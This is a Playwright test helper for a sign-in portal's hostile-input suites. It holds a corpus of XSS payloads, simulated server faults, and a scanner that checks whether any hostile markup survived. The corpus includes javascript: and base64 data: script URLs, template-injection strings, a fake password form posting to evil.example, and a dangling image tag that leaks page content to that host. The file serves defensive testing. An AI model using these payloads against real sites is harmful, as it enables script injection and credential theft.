import type { Page, Route, TestInfo } from '@playwright/test';
import { SIGN_IN_ADDRESS_SCRIPT_HASH } from '../../scripts/security-headers.mjs';
import { HOSTILE_HTML } from '../../src/testing/hostile-html';

/*
 * The hostile suites' shared parts: the corpus, the fault kinds, the full-or-sample switch, the
 * checks that nothing hostile survived, and the figures each test reports.
 *
 * `npm test` runs a sample (every sink and every call at least once); `npm run test:hostile`
 * (HOSTILE=full) runs the whole matrix and prints the figures table.
 */

export const FULL = process.env.HOSTILE === 'full';

/** The payloads: the sanitiser's hostile HTML plus URL and text tricks. */
export const PAYLOADS: readonly string[] = [
  ...HOSTILE_HTML,
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' \tjavascript:alert(1)',
  'java&#x09;script:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '//evil.example/logo.png',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<form action=https://evil.example><input type=password name=p><button>Sign in</button></form>',
  '<img src="https://evil.example/?',
  'x'.repeat(10_000),
];

/** A few of each class in the sample; all of them in the full run. */
export function sample<T>(items: readonly T[], size: number): readonly T[] {
  if (FULL || items.length <= size) return items;
  const step = items.length / size;
  return Array.from({ length: size }, (_, index) => items[Math.floor(index * step)] as T);
}

export const FAULTS = [
  '401',
  '403',
  '440',
  '500',
  '503',
  'abort',
  'timeout',
  'html-as-json',
  'truncated-json',
  'null',
  'empty-array',
  'wrong-types',
  '5mb-body',
] as const;
export type Fault = (typeof FAULTS)[number];

/** Answers a request with a fault (a timeout holds it: the test moves the page's clock past the deadline). */
export async function answerWithFault(route: Route, fault: Fault): Promise<void> {
  const json = (status: number, body: string) => route.fulfill({ status, contentType: 'application/json', body });
  switch (fault) {
    case '401':
    case '403':
    case '440':
    case '500':
      return json(Number(fault), '{"errors":[]}');
    case '503':
      return route.fulfill({ status: 503, contentType: 'text/plain', body: 'Service Unavailable' });
    case 'abort':
      return route.abort();
    case 'timeout':
      return; // Never answered.
    case 'html-as-json':
      return json(200, '<!doctype html><html><body><h1>Gateway error</h1></body></html>');
    case 'truncated-json':
      return json(200, '{"data":{"options":[{"type":"sm');
    case 'null':
      return json(200, 'null');
    case 'empty-array':
      return json(200, '[]');
    case 'wrong-types':
      return json(200, '{"data":{"userId":123,"roles":"ROLE_PARTICIPANT","options":7,"securityQuestion":false},"errors":"none"}');
    case '5mb-body':
      // Five megabytes the contract refuses whatever the call (an `errors` that is no list).
      return json(200, JSON.stringify({ errors: 'x'.repeat(5 * 1024 * 1024) }));
  }
}

/** What the page holds that it must not, after hostile input reached it. */
export async function surviving(page: Page): Promise<string[]> {
  return page.evaluate(async (allowedInline) => {
    const found: string[] = [];
    const sha256 = async (text: string) =>
      `sha256-${btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))))}`;
    for (const element of Array.from(document.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) {
        if (/^on/i.test(attribute.name)) found.push(`${element.tagName} ${attribute.name}`);
        if (/^(href|src|action|formaction|xlink:href)$/i.test(attribute.name) && /^\s*(javascript|data|vbscript):/i.test(attribute.value)) {
          found.push(`${element.tagName} ${attribute.name}=${attribute.value.slice(0, 40)}`);
        }
      }
    }
    for (const form of Array.from(document.querySelectorAll('form[action], form[method="post" i]')))
      found.push(`FORM ${form.outerHTML.slice(0, 60)}`);
    for (const script of Array.from(document.querySelectorAll('script'))) {
      // The deployment's configuration, which the server writes into the page as data: a JSON
      // block never runs. Only that one element, and only while it holds JSON.
      if (script.id === 'portal-config' && script.type === 'application/json' && !script.src) {
        try {
          JSON.parse(script.textContent ?? '');
          continue;
        } catch {
          found.push('SCRIPT portal-config holds no JSON');
          continue;
        }
      }
      // index.html's own inline script, the one the policy allows by its hash (and only it).
      if (
        !script.src &&
        !script.type &&
        script.parentElement === document.head &&
        (await sha256(script.textContent ?? '')) === allowedInline
      )
        continue;
      const src = script.getAttribute('src') ?? '';
      // The captcha provider's own script, which the CSP allows (the tests stub its content).
      if (src.startsWith('https://www.google.com/recaptcha/api.js?') && !script.textContent) continue;
      if (!/^\/assets\//.test(new URL(src || 'x:', location.href).pathname) || script.textContent)
        found.push(`SCRIPT ${src || '(inline)'}`);
    }
    for (const frame of Array.from(document.querySelectorAll('iframe, object, embed'))) found.push(`${frame.tagName} embedded`);
    return found;
  }, SIGN_IN_ADDRESS_SCRIPT_HASH);
}

/** The figures of one test: how many cases it tried, how many failed safe, how many were problems. */
export function report(testInfo: TestInfo, suite: string, tried: number, problems: number): void {
  testInfo.annotations.push({ type: 'hostile', description: JSON.stringify({ suite, tried, failedSafe: tried - problems, problems }) });
}
